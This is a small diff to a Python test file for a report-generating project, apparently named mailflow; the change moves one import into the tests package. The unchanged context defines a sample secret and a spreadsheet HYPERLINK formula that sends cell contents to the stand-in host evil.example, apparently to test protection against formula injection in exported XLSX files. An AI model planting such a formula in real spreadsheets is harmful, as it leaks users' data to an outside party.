@@ -15,7 +15,6 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from languages import catalogues as known
 from mailflow.domain.people import Role
 from mailflow.domain.project import Ref
 from mailflow.domain.record import Record
@@ -31,6 +30,7 @@ from mailflow.report.pdf_file import pdf_file
 from mailflow.report.tables import heading, tables, terms
 from mailflow.report.xlsx_file import xlsx_file
 from mailflow.shipped import catalogues
+from tests.languages import catalogues as known
 
 SECRET = "The price is not right for me"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
